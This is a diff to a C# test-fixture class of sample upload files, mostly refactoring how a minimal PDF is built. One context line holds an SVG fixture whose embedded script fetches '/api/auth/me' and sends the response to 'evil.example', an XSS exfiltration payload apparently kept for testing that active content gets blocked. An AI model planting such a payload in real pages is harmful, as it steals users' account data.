@@ -131,9 +131,12 @@ public static class TestImages
         "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>fetch('/api/auth/me').then(r => r.text()).then(t => location = 'https://evil.example/?' + t)</script><rect width=\"10\" height=\"10\"/></svg>");
 
     /// <summary>A one-page PDF with no active content.</summary>
-    public static byte[] Pdf(string? extra = null) => Encoding.ASCII.GetBytes(
-        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R " + extra + ">> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n" +
-        "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
+    public static byte[] Pdf(string? extra = null) => new PdfBuilder("1.4")
+        .Object(1, "<< /Type /Catalog /Pages 2 0 R " + extra + ">>")
+        .Object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
+        .Object(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
+        .Revision("/Root 1 0 R")
+        .ToArray();
 
     /// <summary>A file of <paramref name="length"/> bytes that starts like a JPEG.</summary>
     public static byte[] Oversize(int length)
